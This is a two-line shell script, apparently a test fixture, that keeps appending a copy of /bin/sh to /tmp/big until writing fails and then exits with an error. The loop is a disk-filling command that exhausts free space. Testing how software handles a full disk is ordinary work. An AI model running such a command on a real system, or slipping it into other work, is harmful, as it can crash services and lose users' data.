while cat /bin/sh >> /tmp/big; do :; done
exit 1
